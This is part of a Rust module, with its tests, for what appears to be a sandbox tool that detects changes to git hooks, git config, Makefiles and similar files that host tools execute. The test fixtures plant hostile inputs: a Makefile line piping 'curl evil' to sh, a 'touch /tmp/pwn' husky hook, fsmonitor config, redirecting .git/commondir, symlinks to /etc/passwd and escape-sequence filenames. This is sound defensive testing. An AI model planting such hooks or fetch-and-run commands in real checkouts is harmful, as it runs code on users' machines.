        (State::Absent, b) => Some((format!("created, {}", what(b)), vec![K::Created])),
        (_, State::Absent) => Some(("deleted".into(), vec![K::Deleted])),
        (
            State::File {
                mode: m1,
                size: s1,
                sha256: h1,
                mtime: t1,
                ctime: c1,
                ino: i1,
            },
            State::File {
                mode: m2,
                size: s2,
                sha256: h2,
                mtime: t2,
                ctime: c2,
                ino: i2,
            },
        ) => {
            let mut parts = Vec::new();
            let mut kinds = Vec::new();
            match (h1, h2) {
                (Some(h1), Some(h2)) => {
                    if h1 != h2 {
                        parts.push("content changed".to_string());
                        kinds.push(K::Content);
                    }
                }
                _ => {
                    if (s1, t1, c1, i1) != (s2, t2, c2, i2) {
                        parts.push(
                            "content or metadata changed (too large to hash: its size, times or inode differ)"
                                .to_string(),
                        );
                        kinds.push(K::Content);
                    }
                }
            }
            if m1 != m2 {
                let now = if exec(*m2) && !exec(*m1) {
                    ", now executable"
                } else {
                    ""
                };
                parts.push(format!("mode {m1:04o} → {m2:04o}{now}"));
                kinds.push(K::Mode);
            }
            (!parts.is_empty()).then(|| (parts.join(", "), kinds))
        }
        (State::Symlink { .. }, State::Symlink { target, .. }) => (a != b).then(|| {
            (
                format!("now a symbolic link to {}", crate::text::foreign(target)),
                vec![K::SymlinkTarget],
            )
        }),
        (State::Dir { mode: m1, .. }, State::Dir { mode: m2, .. }) => {
            (m1 != m2).then(|| (format!("mode {m1:04o} → {m2:04o}"), vec![K::Mode]))
        }
        (State::Other { what: w1, mode: m1 }, State::Other { what: w2, mode: m2 }) => {
            if w1 != w2 {
                Some((format!("replaced by {}", what(b)), vec![K::Kind]))
            } else {
                (m1 != m2).then(|| (format!("mode {m1:04o} → {m2:04o}"), vec![K::Mode]))
            }
        }
        (a, b) => Some((
            format!("replaced: was {}, now {}", what(a), what(b)),
            vec![K::Kind],
        )),
    }
}

/// What a state is, as a phrase (`executable`, `a symbolic link to X`).
fn what(s: &State) -> String {
    match s {
        State::Absent => "absent".into(),
        State::File { mode, .. } if mode & 0o111 != 0 => "executable".into(),
        State::File { .. } => "a regular file".into(),
        State::Symlink { target, .. } => {
            format!("a symbolic link to {}", crate::text::foreign(target))
        }
        State::Dir { .. } => "a directory".into(),
        State::Other { what, .. } => what.clone(),
        State::Unreadable { .. } => "unreadable".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::{symlink, PermissionsExt};
    use std::path::PathBuf;
    use std::time::{Duration, Instant};

    /// A working directory with `.git/hooks`, `.git/config`, a Makefile and
    /// `src/main.py`, as a checkout has them.
    fn checkout() -> (tempfile::TempDir, PathBuf) {
        let d = tempfile::tempdir().expect("tempdir");
        let root = d.path().canonicalize().expect("canonical").join("work");
        std::fs::create_dir_all(root.join(".git/hooks")).expect("mkdir");
        std::fs::create_dir_all(root.join("src")).expect("mkdir");
        std::fs::write(root.join(".git/config"), "[core]\n").expect("write");
        std::fs::write(root.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").expect("write");
        std::fs::write(root.join("Makefile"), "all:\n").expect("write");
        std::fs::write(root.join("src/main.py"), "print(1)\n").expect("write");
        (d, root)
    }

    fn read(root: &Path) -> BTreeMap<String, State> {
        read_paths(open_workdir(root).expect("open").0)
    }

    fn chmod(p: &Path, mode: u32) {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).expect("chmod");
    }

    /// `(path, change, kinds)` of every change.
    fn changes(
        before: &BTreeMap<String, State>,
        root: &Path,
    ) -> Vec<(String, String, Vec<ChangeKind>)> {
        compare(before, &read(root))
            .into_iter()
            .map(|c| (c.path, c.change, c.kinds))
            .collect()
    }

    fn one(path: &str, change: &str, kind: ChangeKind) -> Vec<(String, String, Vec<ChangeKind>)> {
        vec![(path.to_string(), change.to_string(), vec![kind])]
    }

    fn mkfifo(p: &Path) {
        rustix::fs::mknodat(
            rustix::fs::CWD,
            p,
            FileType::Fifo,
            Mode::from_raw_mode(0o644),
            0,
        )
        .expect("mkfifo");
    }

    #[test]
    fn nothing_changed_is_no_change_and_src_is_never_looked_at() {
        let (_d, root) = checkout();
        let before = read(&root);
        assert!(
            before.contains_key(".git/hooks/pre-commit.sample"),
            "{before:?}"
        );
        assert!(!before.keys().any(|k| k.starts_with("src")), "{before:?}");
        std::fs::write(root.join("src/main.py"), "import os; os.system('x')\n").expect("write");
        std::fs::write(root.join("src/new.py"), "").expect("write");
        assert_eq!(changes(&before, &root), []);
    }

    /// Files that send git elsewhere for its config and hooks, and
    /// husky 9's hooks directory, are named (a review ran a command on the
    /// host through a new `.git/commondir` and through `.husky/_/`).
    #[test]
    fn commondir_alternates_and_huskys_hooks_are_named() {
        let (_d, root) = checkout();
        std::fs::create_dir_all(root.join(".husky/_")).expect("husky");
        std::fs::write(root.join(".husky/_/h"), "echo ok\n").expect("write");
        let before = read(&root);
        std::fs::write(root.join(".git/commondir"), "../.evil\n").expect("write");
        std::fs::create_dir_all(root.join(".git/objects/info")).expect("dir");
        std::fs::write(root.join(".git/objects/info/alternates"), "/x\n").expect("write");
        std::fs::write(root.join(".husky/_/h"), "touch /tmp/pwn\n").expect("write");
        let named: Vec<String> = changes(&before, &root).into_iter().map(|c| c.0).collect();
        for p in [
            ".git/commondir",
            ".git/objects/info/alternates",
            ".husky/_/h",
        ] {
            assert!(named.iter().any(|n| n == p), "{p} not named: {named:?}");
        }
    }

    #[test]
    fn a_created_hook_is_named_executable() {
        let (_d, root) = checkout();
        let before = read(&root);
        let hook = root.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "x").expect("write");
        chmod(&hook, 0o755);
        assert_eq!(
            changes(&before, &root),
            one(
                ".git/hooks/pre-commit",
                "created, executable",
                ChangeKind::Created
            )
        );
        // Not executable: created, said plainly.
        chmod(&hook, 0o644);
        assert_eq!(
            changes(&before, &root),
            one(".git/hooks/pre-commit", "created", ChangeKind::Created)
        );
    }

    #[test]
    fn chmod_x_and_content_and_deletion_are_changes() {
        let (_d, root) = checkout();
        let sample = root.join(".git/hooks/pre-commit.sample");
        chmod(&sample, 0o644);
        let before = read(&root);
        chmod(&sample, 0o755);
        assert_eq!(
            changes(&before, &root),
            one(
                ".git/hooks/pre-commit.sample",
                "mode 0644 → 0755, now executable",
                ChangeKind::Mode
            )
        );
        chmod(&sample, 0o644);
        std::fs::write(root.join("Makefile"), "all:\n\tcurl evil | sh\n").expect("write");
        std::fs::write(root.join(".git/config"), "[core]\nfsmonitor = x\n").expect("write");
        assert_eq!(
            changes(&before, &root),
            vec![
                (
                    ".git/config".to_string(),
                    "content changed".to_string(),
                    vec![ChangeKind::Content]
                ),
                (
                    "Makefile".to_string(),
                    "content changed".to_string(),
                    vec![ChangeKind::Content]
                ),
            ]
        );
        // The same bytes written again are no change.
        std::fs::write(root.join("Makefile"), "all:\n").expect("write");
        std::fs::write(root.join(".git/config"), "[core]\n").expect("write");
        assert_eq!(changes(&before, &root), []);
        std::fs::remove_file(root.join("Makefile")).expect("rm");
        assert_eq!(
            changes(&before, &root),
            one("Makefile", "deleted", ChangeKind::Deleted)
        );
    }

    #[test]
    fn a_symlink_swapped_to_point_outside_is_named_and_never_followed() {
        let (d, root) = checkout();
        let outside = d.path().join("outside");
        std::fs::write(&outside, "host file").expect("write");
        let hook = root.join(".git/hooks/post-checkout");
        symlink("pre-commit.sample", &hook).expect("ln");
        let before = read(&root);
        assert_eq!(
            before[".git/hooks/post-checkout"],
            State::Symlink {
                target: "pre-commit.sample".into(),
                target_hex: None
            }
        );
        std::fs::remove_file(&hook).expect("rm");
        symlink(&outside, &hook).expect("ln");
        assert_eq!(
            changes(&before, &root),
            one(
                ".git/hooks/post-checkout",
                &format!("now a symbolic link to {}", outside.display()),
                ChangeKind::SymlinkTarget
            )
        );
        // A file swapped for a link: its kind changed.
        std::fs::remove_file(&hook).expect("rm");
        symlink("pre-commit.sample", &hook).expect("ln");
        std::fs::remove_file(root.join("Makefile")).expect("rm");
        symlink("/etc/passwd", root.join("Makefile")).expect("ln");
        assert_eq!(
            changes(&before, &root),
            one(
                "Makefile",
                "replaced: was a regular file, now a symbolic link to /etc/passwd",
                ChangeKind::Kind
            )
        );
    }

    #[test]
    fn dot_git_replaced_by_a_symlink_is_named_and_not_descended_into() {
        let (d, root) = checkout();
        let before = read(&root);
        let evil = d.path().join("evil-git");
        std::fs::create_dir_all(evil.join("hooks")).expect("mkdir");
        std::fs::write(evil.join("hooks/pre-commit"), "x").expect("write");
        std::fs::rename(root.join(".git"), d.path().join("moved")).expect("mv");
        symlink(&evil, root.join(".git")).expect("ln");
        let after = read(&root);
        assert!(
            !after.keys().any(|k| k.starts_with(".git/")),
            "read through the link: {after:?}"
        );
        assert_eq!(
            changes(&before, &root),
            one(
                ".git",
                &format!(
                    "replaced: was a directory, now a symbolic link to {}",
                    evil.display()
                ),
                ChangeKind::Kind
            )
        );
    }

    #[test]
    fn a_worktrees_dot_git_file_is_compared_by_content() {
        let (_d, root) = checkout();
        std::fs::remove_dir_all(root.join(".git")).expect("rm");
        std::fs::write(root.join(".git"), "gitdir: /repo/.git/worktrees/a\n").expect("write");
        let before = read(&root);
        assert_eq!(changes(&before, &root), []);
        std::fs::write(root.join(".git"), "gitdir: /workspace/evil\n").expect("write");
        assert_eq!(
            changes(&before, &root),
            one(".git", "content changed", ChangeKind::Content)
        );
    }

    #[test]
    fn a_git_directory_made_by_the_sandbox_names_its_hooks() {
        let (_d, root) = checkout();
        std::fs::remove_dir_all(root.join(".git")).expect("rm");
        let before = read(&root);
        std::fs::create_dir_all(root.join(".git/hooks")).expect("mkdir");
        std::fs::write(root.join(".git/hooks/pre-commit"), "x").expect("write");
        chmod(&root.join(".git/hooks/pre-commit"), 0o700);
        std::fs::create_dir_all(root.join(".vscode")).expect("mkdir");
        std::fs::write(root.join(".vscode/tasks.json"), "{}").expect("write");
        // Directories appearing are said by their entries only.
        assert_eq!(
            changes(&before, &root),
            vec![
                (
                    ".git/hooks/pre-commit".to_string(),
                    "created, executable".to_string(),
                    vec![ChangeKind::Created]
                ),
                (
                    ".vscode/tasks.json".to_string(),
                    "created".to_string(),
                    vec![ChangeKind::Created]
                ),
            ]
        );
    }

    #[test]
    fn a_fifo_never_blocks_and_is_named() {
        let (_d, root) = checkout();
        mkfifo(&root.join(".git/hooks/pre-push"));
        let start = Instant::now();
        let before = read(&root);
        assert_eq!(
            before[".git/hooks/pre-push"],
            State::Other {
                what: "a named pipe (FIFO)".into(),
                mode: 0o644
            }
        );
        std::fs::remove_file(root.join("Makefile")).expect("rm");
        mkfifo(&root.join("Makefile"));
        let c = changes(&before, &root);
        assert!(start.elapsed() < Duration::from_secs(5), "it waited");
        assert_eq!(
            c,
            one(
                "Makefile",
                "replaced: was a regular file, now a named pipe (FIFO)",
                ChangeKind::Kind
            )
        );
    }

    #[test]
    fn a_file_too_large_to_hash_is_compared_by_size_times_and_inode() {
        let (_d, root) = checkout();
        let big = root.join("package.json");
        let len = usize::try_from(MAX_HASHED_BYTES).expect("usize") + 1;
        std::fs::write(&big, vec![b' '; len]).expect("write");
        let before = read(&root);
        assert!(
            matches!(&before["package.json"], State::File { sha256: None, .. }),
            "{:?}",
            before["package.json"]
        );
        assert_eq!(changes(&before, &root), []);
        // Same size and times, another file (renamed over it, its times
        // set to the old ones): its inode differs.
        let old = std::fs::metadata(&big).expect("stat");
        let new = root.join("package.json.new");
        std::fs::write(&new, vec![b'x'; len]).expect("write");
        std::fs::File::options()
            .write(true)
            .open(&new)
            .and_then(|f| f.set_modified(old.modified().expect("mtime")))
            .expect("set mtime");
        std::fs::rename(&new, &big).expect("mv");
        let c = changes(&before, &root);
        assert_eq!(c.len(), 1, "{c:?}");
        assert_eq!(c[0].2, [ChangeKind::Content]);
        assert!(c[0].1.contains("too large to hash"), "{c:?}");
    }

    #[test]
    fn a_hooks_directory_with_too_many_entries_is_named() {
        let (_d, root) = checkout();
        let before = read(&root);
        for i in 0..MAX_DIR_ENTRIES + 10 {
            std::fs::write(root.join(format!(".git/hooks/a{i:04}")), "").expect("write");
        }
        let c = changes(&before, &root);
        assert!(
            c.iter()
                .any(|(p, _, k)| p == ".git/hooks" && k == &[ChangeKind::TooManyEntries]),
            "{c:?}"
        );
        // The pre-existing sample sorts after the first 256: not compared
        // one by one (never said to be deleted), but the directory is named.
        assert_eq!(c.len(), MAX_DIR_ENTRIES + 1, "{c:?}");
        assert!(!c.iter().any(|(p, _, _)| p.contains("sample")), "{c:?}");
    }

    #[test]
    fn hostile_names_are_escaped_in_the_line() {
        let (_d, root) = checkout();
        let before = read(&root);
        std::fs::write(root.join(".git/hooks/x\u{1b}[2J\nodek: ok"), "").expect("write");
        let report = Report {
            changed: compare(&before, &read(&root)),
            unchecked: None,
            copied_back: None,
        };
        let line = report.line().expect("a line");
        assert!(!line.contains('\u{1b}') && !line.contains('\n'), "{line:?}");
        assert!(
            line.contains(r".git/hooks/x\x1b[2J\nodek: ok (created)"),
            "{line}"
        );
        assert!(
            line.ends_with("— review them before running git or make"),
            "{line}"
        );
    }

    #[test]
    fn record_and_finish_round_trip_privately_and_once() {
        let (d, root) = checkout();
        let home = d.path().join("home");
        std::fs::create_dir(&home).expect("mkdir");
        chmod(&home, 0o700);
        let name = "odek-0123456789ab";
        record_at(&home, &root, None, name).expect("record");
        let dir = home.join("sandboxes").join(name);
        let mode = |p: &Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
        assert_eq!(mode(&home.join("sandboxes")), 0o700);
        assert_eq!(mode(&dir), 0o700);
        assert_eq!(mode(&dir.join(RECORD_FILE)), 0o600);
        let hook = root.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "x").expect("write");
        chmod(&hook, 0o755);
        std::fs::write(root.join("src/main.py"), "changed").expect("write");
        let report = finish(&home, name).expect("a record");
        assert_eq!(
            report.line().as_deref(),
            Some("the sandbox changed files that host tools run: .git/hooks/pre-commit (created, executable) — review them before running git or make")
        );
        assert!(!dir.exists(), "the record and its directory are removed");
        assert_eq!(finish(&home, name), None, "reported once");
        // Nothing changed: no line.
        record_at(&home, &root, None, name).expect("record");
        assert_eq!(finish(&home, name).and_then(|r| r.line()), None);
        // Another file in the sandbox's directory is kept, and so is it.
        record_at(&home, &root, None, name).expect("record");
        std::fs::write(dir.join("log.jsonl"), "").expect("write");
        discard(&home, name);
        assert!(dir.join("log.jsonl").exists() && !dir.join(RECORD_FILE).exists());
    }

    #[test]
    fn a_workdir_replaced_or_a_record_tampered_with_is_unchecked() {
        let (d, root) = checkout();
        let home = d.path().join("home");
        std::fs::create_dir(&home).expect("mkdir");
        let name = "odek-0123456789ab";
        record_at(&home, &root, None, name).expect("record");
        std::fs::rename(&root, d.path().join("old")).expect("mv");
        std::fs::create_dir(&root).expect("mkdir");
        let r = finish(&home, name).expect("a record");
        assert!(r.changed.is_empty());
        assert!(
            r.unchecked
                .as_deref()
                .is_some_and(|w| w.contains("no longer the directory")),
            "{r:?}"
        );
        assert!(r
            .line()
            .is_some_and(|l| l.starts_with("cannot tell whether")));
        // A record others can write is not trusted.
        record_at(&home, &root, None, name).expect("record");
        let file = home.join("sandboxes").join(name).join(RECORD_FILE);
        chmod(&file, 0o666);
        let r = finish(&home, name).expect("a record");
        assert!(r.unchecked.is_some_and(|w| w.contains("not private")));
    }

    #[test]
    fn a_symlinked_or_shared_sandboxes_directory_is_refused() {
        let d = tempfile::tempdir().expect("tempdir");
        let home = d.path().join("home");
        std::fs::create_dir_all(d.path().join("elsewhere")).expect("mkdir");
        std::fs::create_dir(&home).expect("mkdir");
        symlink(d.path().join("elsewhere"), home.join("sandboxes")).expect("ln");
        let e = sandbox_dir(&home, "odek-0123456789ab", true).expect_err("a symlink");
        assert!(e.contains("symbolic link"), "{e}");
        std::fs::remove_file(home.join("sandboxes")).expect("rm");
        std::fs::create_dir(home.join("sandboxes")).expect("mkdir");
        chmod(&home.join("sandboxes"), 0o777);
        let e = sandbox_dir(&home, "odek-0123456789ab", true).expect_err("shared");
        assert!(e.contains("chmod go-w"), "{e}");
        assert!(sandbox_dir(&home, "../x", true).is_err());
        assert!(sandbox_dir(&home, "odek-a/b", true).is_err());
    }

    #[test]
    fn prune_removes_only_old_records_of_gone_sandboxes() {
        let (d, root) = checkout();
        let home = d.path().join("home");
        std::fs::create_dir(&home).expect("mkdir");
        for name in ["odek-000000000001", "odek-000000000002"] {
            record_at(&home, &root, None, name).expect("record");
        }
        let now = std::time::SystemTime::now();
        prune(&home, &[], now);
        assert!(
            home.join("sandboxes/odek-000000000001").exists(),
            "too recent"
        );
        prune(
            &home,
            &["odek-000000000002"],
            now + PRUNE_MARGIN + Duration::from_secs(5),
        );
        assert!(!home.join("sandboxes/odek-000000000001").exists());
        assert!(home.join("sandboxes/odek-000000000002").exists(), "live");
    }
}
